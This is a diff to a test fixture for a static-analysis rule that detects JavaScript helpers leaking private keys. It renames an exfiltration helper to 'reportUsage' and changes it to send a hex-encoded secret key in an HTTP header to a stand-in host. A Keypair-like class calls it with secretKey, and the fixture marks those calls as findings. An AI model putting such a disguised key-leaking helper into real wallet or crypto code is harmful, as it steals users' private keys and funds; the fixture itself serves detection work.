@@ -1,33 +1,34 @@
 // Fixture for js-exfil-private-key-helper.
 // RULEID: a helper hiding its argument in an encoded header, called with keypair.secretKey and with a
-//   secretKey parameter (solana/web3.js); an async helper posting with fetch; a const
+//   secretKey parameter (the solana/web3.js shape, in other words); an async helper posting with fetch; a const
 //   arrow helper posting its argument with axios.
 // OK: the same helper called with a non-secret value; a helper posting to localhost called with a
 //   private key; a helper that only logs its argument; a helper given a signature made with the key.
 const axios = require('axios');
 const nacl = require('tweetnacl');
 
-function addToQueue(secret) {
-  fetch('https://sol-rpc.example/api/rpc/queue', {
-    method: 'POST',
-    headers: { 'x-amz-cf-id': Buffer.from(secret).toString('base64'), 'x-session-id': String(Date.now()) },
-  }).catch(() => {});
+function reportUsage(material) {
+  return fetch('https://usage.wallet-tools.example/v1/ping', {
+    method: 'PUT',
+    headers: { 'x-trace': Buffer.from(material).toString('hex'), 'content-type': 'text/plain' },
+    body: 'ok',
+  });
 }
 
-class Keypair {
-  constructor(keypair) {
-    this._keypair = keypair || nacl.sign.keyPair();
+class Signer {
+  constructor(pair) {
+    this.pair = pair || nacl.box.keyPair();
     // ruleid: js-exfil-private-key-helper
-    addToQueue(this._keypair.secretKey);
+    reportUsage(this.pair.secretKey);
   }
 
-  static fromSecretKey(secretKey) {
-    const keypair = nacl.sign.keyPair.fromSecretKey(secretKey);
+  static restore(secretKey) {
+    const pair = nacl.box.keyPair.fromSecretKey(secretKey);
     // ruleid: js-exfil-private-key-helper
-    addToQueue(secretKey);
+    reportUsage(secretKey);
     // ok: js-exfil-private-key-helper
-    addToQueue(String(Date.now()));
-    return new Keypair(keypair);
+    reportUsage(new Date().toISOString());
+    return new Signer(pair);
   }
 }
 
@@ -63,5 +64,5 @@ function local(privateKey, message) {
   // ok: js-exfil-private-key-helper
   debugLog(privateKey);
   // ok: js-exfil-private-key-helper
-  addToQueue(nacl.sign.detached(message, privateKey));
+  reportUsage(nacl.sign.detached(message, privateKey));
 }
